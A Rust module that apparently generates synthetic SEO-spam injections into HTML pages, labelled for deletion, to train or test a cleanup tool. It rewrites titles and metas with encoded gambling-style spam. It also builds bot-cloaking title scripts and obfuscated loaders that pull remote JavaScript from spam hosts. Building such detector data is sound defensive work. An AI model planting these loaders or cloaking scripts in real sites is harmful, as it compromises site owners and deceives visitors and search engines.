//! Family C: the title and metas replaced by the trade's, often with a script that shows people the real title.
use super::catalogue::Job;
use super::dice::Dice;
use super::draft::Label;
use super::kit::Kit;
use super::markup::{entities, foreign_entities, js_string};
use super::obfuscate;
use super::place::Place;
use super::wording::half;
use crate::verdict::Action;
use std::ops::Range;

/// How the spam text is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Written {
    Decimal,
    Hex,
    Plain,
    /// Half of the characters as references.
    Half,
    /// Only the characters outside ASCII.
    Foreign,
}

/// The original title: its bytes' range and its text.
fn original(job: &Job<'_, '_>) -> Option<(Range<usize>, String)> {
    let title = job.draft.marks.title.clone()?;
    let text = job.draft.marks.title_text.clone()?;
    // A script that sets the title needs its text.
    let text = std::str::from_utf8(&job.draft.clean[text]).ok()?.trim();
    Some((title, htmlize::unescape(text).into_owned()))
}

/// A title, keywords or description of the trade.
fn phrase(dice: &mut Dice, kit: &Kit, join: &str, keywords: Range<usize>) -> String {
    let count = dice.range(keywords.start..=keywords.end);
    let mut words: Vec<String> = (0..count).map(|_| kit.keyword(dice)).collect();
    if dice.chance(0.3) {
        let host = kit.host(dice);
        words.push(match dice.range(0..=2) {
            0 => format!("【{}:{host}】", kit.keyword(dice)),
            1 => format!("【网址:{host}】"),
            _ => host,
        });
    }
    if dice.chance(0.15) {
        words.push(dice.word(&["⚽️", "🎰", "✅", "⭐", "🔥", "💊"]).to_owned());
    }
    words.join(join)
}

/// The gap of a template that nobody filled.
fn placeholder(dice: &mut Dice) -> String {
    const NAMES: [&str; 10] = [
        "title",
        "keyword",
        "关键词",
        "标题",
        "网站名称",
        "site_name",
        "seo_title",
        "kw",
        "主关键词",
        "domain",
    ];
    let one = |dice: &mut Dice| {
        let (open, close) =
            *dice.pick(&[("{", "}"), ("{{", "}}"), ("[", "]"), ("{$", "}"), ("{#", "#}"), ("【", "】")]);
        format!("{open}{}{close}", dice.pick(&NAMES))
    };
    (0..dice.range(1..=3)).map(|_| one(dice)).collect::<Vec<_>>().join(dice.word(&["-", "_", " - ", "|"]))
}

fn encode(dice: &mut Dice, written: Written, text: &str) -> String {
    let end = if written != Written::Plain && dice.chance(0.2) { "&#10;" } else { "" };
    match written {
        Written::Decimal => entities(text, false, true) + end,
        Written::Hex => entities(text, true, false) + end,
        Written::Plain => text.to_owned(),
        Written::Half => half(dice, text),
        Written::Foreign => foreign_entities(text),
    }
}

fn metas(dice: &mut Dice, kit: &Kit, written: Written) -> Vec<String> {
    let join = dice.word(&[",", "，", "-", "_", "、", "|", " "]);
    // One kit leaves the content unquoted: the value ends at its first space.
    let (open, close) = if dice.chance(0.08) { ("", "") } else { ("\"", "\"") };
    let end = dice.word(&["/>", " />", ">"]);
    let mut out = Vec::new();
    for (name, keywords) in [("keywords", 3..10), ("description", 5..20)] {
        if dice.chance(0.9) {
            let text = phrase(dice, kit, join, keywords);
            let text = encode(dice, written, &text);
            out.push(format!("<meta name=\"{name}\" content={open}{text}{close}{end}"));
        }
    }
    out
}

/// A test for search engines around the restoring of the real title, in words of our own.
fn gate(dice: &mut Dice, real: &str) -> String {
    const BOTS: [&str; 10] =
        ["baidu", "google", "sogou", "360spider", "bing", "yisou", "bot", "spider", "yandex", "bytespider"];
    let (first, second) = (*dice.pick(&BOTS), *dice.pick(&BOTS));
    let agent = dice.word(&[
        "navigator.userAgent.toLowerCase()",
        "navigator.userAgent.toLocaleLowerCase()",
        "window.navigator.userAgent",
        "navigator['userAgent']",
    ]);
    let name = obfuscate::variable(dice);
    let quote = *dice.pick(&['"', '\'']);
    let set = format!(
        "document.title{}={}{quote}{}{quote}",
        dice.pick(&["", " "]),
        dice.pick(&["", " "]),
        js_string(real)
    );
    let code = match dice.range(0..=6) {
        0..=1 => format!("if({agent}.indexOf(\"{first}\") == -1){{{set}}}"),
        2 => format!("if(!{agent}.match(/{first}|{second}/i)){{{set};}}"),
        3 => format!("var {name}={agent};if(!/{first}|{second}/i.test({name})){set};"),
        4 => format!("{agent}.indexOf('{first}')<0&&({set});"),
        5 => format!("(function(){{var {name}={agent};if({name}.search('{first}')===-1){{{set}}}}})();"),
        _ => format!("{set};"),
    };
    let kind = dice.word(&["", "", " type=\"text/javascript\"", " language=\"javascript\""]);
    format!("<script{kind}>{code}</script>")
}

/// A loader for a remote script, packed or disguised.
pub(crate) fn remote(dice: &mut Dice, kit: &Kit) -> String {
    let url = format!("https://{}/{}.js", kit.host(dice), super::words::name(dice));
    let tag = format!("<script src=\"{url}\"></script>");
    let write = format!("document.write('{tag}');");
    match dice.range(0..=5) {
        0..=1 => {
            let once = obfuscate::packed(dice, &write);
            let code = if dice.chance(0.25) { obfuscate::packed(dice, &once) } else { once };
            format!("<script type=\"text/javascript\">{code}</script>")
        }
        2 => {
            let name = obfuscate::variable(dice);
            let words: Vec<String> = ["createElement", "script", "src", &url, "appendChild", "head"]
                .iter()
                .map(|word| {
                    format!("\"{}\"", word.bytes().map(|b| format!("\\x{b:02x}")).collect::<String>())
                })
                .collect();
            format!(
                "<script>var {name}=[{}];var s=document[{name}[0]]({name}[1]);s[{name}[2]]={name}[3];document[{name}[5]][{name}[4]](s);</script>",
                words.join(",")
            )
        }
        3 => format!("<script>{}</script>", obfuscate::evaluated(dice, &write)),
        4 => format!("<script>document.write({})</script>", obfuscate::expression(dice, &tag, 0.0)),
        _ => format!("<script src=\"{}\"></script>", entities(&url, false, false)),
    }
}

/// Replaces the title and adds `rest`: one unit, or each its own span.
fn rewrite(job: &mut Job<'_, '_>, title: String, rest: Vec<String>) -> bool {
    let Some((range, _)) = original(job) else { return false };
    let label = job.label();
    let extra = Label { action: Action::Delete, ..label };
    let gap = job.block.word(&["\n", "\n", "\r\n", ""]);
    match job.block.range(0..=2) {
        // The whole block stands where the title stood; giving the title back removes all of it.
        0 => {
            let unit = std::iter::once(title).chain(rest).collect::<Vec<_>>().join(gap);
            job.draft.replace(range, &unit, Some(label))
        }
        // The rest further down, as one run.
        1 => {
            let done = job.draft.replace(range, &title, Some(label));
            if done
                && !rest.is_empty()
                && let Some(at) = job.spot(&[(Place::Head, 1)])
            {
                job.draft.insert(at, &rest.join(gap), Some(extra));
            }
            done
        }
        _ => {
            let after = range.end;
            let done = job.draft.replace(range, &title, Some(label));
            if done {
                rest.iter().for_each(|piece| {
                    job.draft.insert(after, piece, Some(extra));
                });
            }
            done
        }
    }
}

/// T13: everything as references, and a script that gives people the real title.
pub(crate) fn gated(job: &mut Job<'_, '_>) -> bool {
    let Some((_, real)) = original(job) else { return false };
    let (kit, dice) = (job.kit, &mut job.block);
    let written =
        *dice.weighted(&[(Written::Decimal, 7), (Written::Hex, 2), (Written::Plain, 3), (Written::Half, 1)]);
    let join = dice.word(&["-", "_", "|", ",", " "]);
    let text = phrase(dice, kit, join, 1..4);
    let title = format!("<title>{}</title>", encode(dice, written, &text));
    let mut rest = metas(dice, kit, written);
    let gate = gate(dice, &real);
    // Sites infected again carry the script two to four times.
    for _ in 0..*dice.weighted(&[(1, 12), (2, 2), (4, 1)]) {
        rest.push(gate.clone());
    }
    if dice.chance(0.5) {
        rest.push(remote(dice, kit));
    }
    rewrite(job, title, rest)
}

/// T14: title and metas only.
pub(crate) fn plain(job: &mut Job<'_, '_>) -> bool {
    let (kit, dice) = (job.kit, &mut job.block);
    let written = *dice.weighted(&[
        (Written::Decimal, 4),
        (Written::Plain, 6),
        (Written::Foreign, 1),
        (Written::Half, 1),
    ]);
    let join = dice.word(&[" - ", "-", "_", "|", " | ", ",", " "]);
    let text = match dice.range(0..=9) {
        0 => placeholder(dice),
        _ => phrase(dice, kit, join, 1..4),
    };
    let title = format!("<title>{}</title>", encode(dice, written, &text));
    let rest = if dice.chance(0.8) { metas(dice, kit, written) } else { Vec::new() };
    rewrite(job, title, rest)
}

/// T16: only the metas, after the title.
pub(crate) fn metas_only(job: &mut Job<'_, '_>) -> bool {
    let (kit, dice) = (job.kit, &mut job.block);
    let written = *dice.weighted(&[(Written::Decimal, 2), (Written::Plain, 3)]);
    let pieces = metas(dice, kit, written);
    let label = Label { action: Action::Delete, ..job.label() };
    let Some(at) = job.spot(&[(Place::Head, 1)]) else { return false };
    let block = pieces.join(job.kit.markup.gap);
    !block.is_empty() && job.draft.insert(at, &block, Some(label))
}
